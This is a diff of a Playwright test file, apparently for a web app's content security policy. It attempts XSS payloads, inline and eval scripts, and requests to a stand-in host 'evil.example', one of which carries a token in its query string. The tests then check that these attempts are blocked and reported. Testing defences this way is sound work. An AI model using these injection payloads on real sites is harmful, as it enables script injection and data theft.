@@ -1,26 +1,26 @@
 import { expect, type Page, type Stack, test } from '../fixtures'
 import { openSignedIn } from '../signed-in'
 
-/** The gateway's logged errors, without the time. */
-const reported = (logs: string): object[] =>
+/** The policy reports in the gateway's log. */
+const reportsIn = (logs: string): object[] =>
   logs
     .split('\n')
     .filter((line) => line.includes('"msg":"csp report"'))
     .map((line) => (JSON.parse(line) as { report: object }).report)
 
-/** Attempts of hostile code in the page, and their outcome. */
+/** Attempts what hostile code would, and returns each outcome. */
 const attack = (page: Page): Promise<Record<string, string>> =>
   page.evaluate(() => {
     const outcomes: Record<string, string> = {}
-    const attempt = (name: string, work: () => unknown) => {
+    const attempt = (name: string, action: () => unknown) => {
       try {
-        work()
-        outcomes[name] = 'went'
+        action()
+        outcomes[name] = 'succeeded'
       } catch (error) {
         outcomes[name] = (error as Error).name
       }
     }
-    const added = (name: string, attributes: Record<string, string> = {}) => {
+    const addElement = (name: string, attributes: Record<string, string> = {}) => {
       const element = document.createElement(name)
       for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
       document.body.append(element)
@@ -30,37 +30,39 @@ const attack = (page: Page): Promise<Record<string, string>> =>
       trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
     }
     const evil = '<img src=x onerror="document.title=1">'
-    attempt('innerHTML', () => Object.assign(added('div'), { innerHTML: evil }))
+    attempt('innerHTML', () => Object.assign(addElement('div'), { innerHTML: evil }))
     attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', evil))
     attempt('document.write', () => document.write(evil))
-    attempt('inline script', () => added('script').append('document.title = 1'))
-    attempt('script text', () => Object.assign(added('script'), { textContent: 'document.title = 1' }))
-    attempt('script address', () => added('script', { src: 'https://evil.example/x.js' }))
-    attempt('handler', () => added('b', { onclick: 'document.title = 1' }))
-    attempt('srcdoc', () => added('iframe', { srcdoc: evil }))
+    attempt('inline script', () => addElement('script').append('document.title = 1'))
+    attempt('script text', () => Object.assign(addElement('script'), { textContent: 'document.title = 1' }))
+    attempt('script URL', () => addElement('script', { src: 'https://evil.example/x.js' }))
+    attempt('handler', () => addElement('b', { onclick: 'document.title = 1' }))
+    attempt('srcdoc', () => addElement('iframe', { srcdoc: evil }))
     attempt('timer', () => setTimeout('document.title = 1' as unknown as () => void))
-    attempt('policy of its own', () => trustedTypes.createPolicy('evil', { createHTML: String }))
+    attempt('new policy', () => trustedTypes.createPolicy('evil', { createHTML: String }))
     attempt('worker', () => new Worker('https://evil.example/x.js'))
-    attempt('picture', () => added('img', { src: 'https://evil.example/?token=1' }))
-    attempt('style', () => added('b', { style: 'background: url(https://evil.example/)' }))
-    attempt('style sheet', () => added('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }))
-    attempt('frame', () => added('iframe', { src: 'https://evil.example/' }))
-    attempt('plug-in', () => added('object', { data: 'https://evil.example/x' }))
-    attempt('base', () => added('base', { href: 'https://evil.example/' }).remove())
+    attempt('picture', () => addElement('img', { src: 'https://evil.example/?token=1' }))
+    attempt('style', () => addElement('b', { style: 'background: url(https://evil.example/)' }))
+    attempt('style sheet', () =>
+      addElement('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
+    )
+    attempt('frame', () => addElement('iframe', { src: 'https://evil.example/' }))
+    attempt('plug-in', () => addElement('object', { data: 'https://evil.example/x' }))
+    attempt('base', () => addElement('base', { href: 'https://evil.example/' }).remove())
     attempt('form', () => {
-      ;(added('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit()
+      ;(addElement('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit()
     })
     fetch('https://evil.example/').catch(() => undefined)
     return outcomes
   })
 
-/** Waits for this many more reports. */
+/** Waits until the log has `count` more reports than `before`, and returns them. */
 const reportsSince = async (stack: Stack, before: number, count: number): Promise<object[]> => {
-  await expect.poll(() => reported(stack.logs()).length - before, { timeout: 5_000 }).toBe(count)
-  return reported(stack.logs()).slice(before)
+  await expect.poll(() => reportsIn(stack.logs()).length - before, { timeout: 5_000 }).toBe(count)
+  return reportsIn(stack.logs()).slice(before)
 }
 
-const sinks = [
+const trustedTypesSinks = [
   'Element innerHTML',
   'Element insertAdjacentHTML',
   'Document write',
@@ -73,7 +75,7 @@ const sinks = [
   'Worker constructor',
   'HTMLObjectElement data',
 ]
-const foreign = [
+const otherDirectives = [
   'trusted-types',
   'style-src-attr',
   'style-src-elem',
@@ -91,25 +93,33 @@ test('the policy blocks hostile code and reports it without its data', async ({
 }) => {
   await openSignedIn(page, 'ada')
   const title = await page.title()
-  const before = reported(stack.logs()).length
+  const before = reportsIn(stack.logs()).length
   const outcomes = await attack(page)
-  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'went')).toEqual(
-    // Loading is refused after the element is there.
+  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'succeeded')).toEqual(
+    // The policy blocks the load only after the element is in the page.
     ['inline script', 'picture', 'style', 'style sheet', 'frame', 'base', 'form'].map((name) => [
       name,
-      'went',
+      'succeeded',
     ]),
   )
-  const all = [...sinks.map(() => 'require-trusted-types-for'), ...foreign, 'base-uri'].sort()
+  const all = [
+    ...trustedTypesSinks.map(() => 'require-trusted-types-for'),
+    ...otherDirectives,
+    'base-uri',
+  ].sort()
   await expect.poll(() => violations.map(({ directive }) => directive).sort()).toEqual(all)
-  expect(violations.filter(({ blocked }) => blocked === 'trusted-types-sink')).toHaveLength(sinks.length)
+  expect(violations.filter(({ blocked }) => blocked === 'trusted-types-sink')).toHaveLength(
+    trustedTypesSinks.length,
+  )
   violations.length = 0
   await expect
     .poll(() => page.evaluate(() => [document.title, location.pathname]))
     .toEqual([title, '/dashboard/sell'])
 
   const reports = await reportsSince(stack, before, all.length)
-  expect(reports).toEqual(expect.arrayContaining(sinks.map((sink) => expect.objectContaining({ sink }))))
+  expect(reports).toEqual(
+    expect.arrayContaining(trustedTypesSinks.map((sink) => expect.objectContaining({ sink }))),
+  )
   expect(reports).toContainEqual({
     directive: 'img-src',
     blocked: 'https://evil.example',
@@ -119,15 +129,15 @@ test('the policy blocks hostile code and reports it without its data', async ({
 })
 
 test('injected inline, foreign and eval scripts do not run', async ({ page, stack, violations }) => {
-  const before = reported(stack.logs()).length
+  const before = reportsIn(stack.logs()).length
   await page.route('**/login', async (route) => {
-    const answer = await route.fetch()
-    const body = (await answer.text()).replace(
+    const response = await route.fetch()
+    const body = (await response.text()).replace(
       '</head>',
       `<script>document.documentElement.id = 'inline'</script>
        <script src="https://evil.example/x.js"></script><script src="/evil.js"></script></head>`,
     )
-    await route.fulfill({ response: answer, body })
+    await route.fulfill({ response, body })
   })
   await page.route('**/evil.js', (route) =>
     route.fulfill({ contentType: 'text/javascript', body: "eval('document.documentElement.id = 1')" }),
